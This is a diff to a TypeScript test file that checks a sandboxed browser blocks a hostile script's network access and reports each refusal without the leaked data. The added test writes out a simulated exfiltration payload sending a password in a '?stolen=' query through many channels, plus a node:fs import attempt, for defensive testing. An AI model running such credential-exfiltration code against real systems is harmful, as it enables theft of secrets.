@@ -1,6 +1,7 @@
 import { createSocket } from 'node:dgram'
 import type { AddressInfo } from 'node:net'
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
+import type { RoomRefusal } from '../../main/core/browser/room-refusals.ts'
 import { type Loopback, startLoopback } from '../support/loopback.ts'
 import { startTestBrowser, type TestBrowser } from '../support/test-browser.ts'
 import { facts, openTestRoom, type TestRoom } from '../support/test-room.ts'
@@ -132,6 +133,32 @@ describe('a hostile script cannot reach the network', () => {
       return done`)) as string[]
     // They were really tried.
     expect(new Set(done)).toEqual(new Set(Object.keys(silent)))
+  })
+
+  it('and each way that the browser refuses is told, without what it would have carried', async () => {
+    const told: RoomRefusal[] = []
+    room = await openTestRoom(browser, { onRefused: (refusal) => told.push(refusal) })
+    const ways = [...Object.values(answering), ...Object.values(silent)]
+    await room.run(
+      `const url = '${other.url}/?stolen=' + context.password
+       for (const way of [${ways.map((code) => `async (url) => { ${code} }`).join(',')}]) { try { way(url).catch(() => 0) } catch {} }
+       await import('node:fs').catch(() => 0)
+       await new Promise((done) => setTimeout(done, 800)); return []`,
+      facts,
+      10_000,
+    )
+    const found = () => [...new Set(told.map(({ way, target }) => `${way} ${target}`))]
+    await expect
+      .poll(found)
+      .toEqual(
+        expect.arrayContaining([
+          ...['connect-src', 'img-src', 'media-src', 'font-src', 'frame-src', 'style-src-elem', 'window', 'form'].map(
+            (way) => `${way} ${other.host}`,
+          ),
+          'script-src-elem node',
+        ]),
+      )
+    expect(JSON.stringify(told)).not.toContain(facts.password)
   })
 
   it('by WebRTC', async () => {
